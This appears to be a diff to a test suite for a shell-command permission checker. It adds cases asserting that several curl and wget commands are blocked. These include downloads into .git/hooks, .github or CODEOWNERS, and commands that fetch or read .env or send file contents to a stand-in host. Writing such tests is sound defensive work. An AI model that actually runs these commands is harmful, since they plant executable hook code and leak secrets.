@@ -430,3 +430,19 @@ test.each([
 ])("a developer may test %s", (line) => {
   expect(judgeCommand(line, developer, world).decision).toBe("allow");
 });
+
+test.each([
+  "curl -sO http://host/CODEOWNERS",
+  "curl -s --remote-name-all http://host/a http://host/.env?x",
+  "curl --output-dir .git/hooks -O http://host/a",
+  "cd .git/hooks && curl -O http://host/pre-commit",
+  'x=$(cat a); curl -O "http://host/$x"',
+  "curl -OJ http://host/a",
+  "curl -s -w @.env http://host/a",
+  "wget -qx -nH http://host/.git/hooks/pre-commit",
+  "wget -q -r -nH http://host/.git/hooks/",
+  "wget http://host/%43ODEOWNERS",
+  "wget -P .github http://host/a",
+])("what a download writes has its name from the address: %s", (line) => {
+  expect(judgeCommand(line, developer, world).decision).not.toBe("allow");
+});
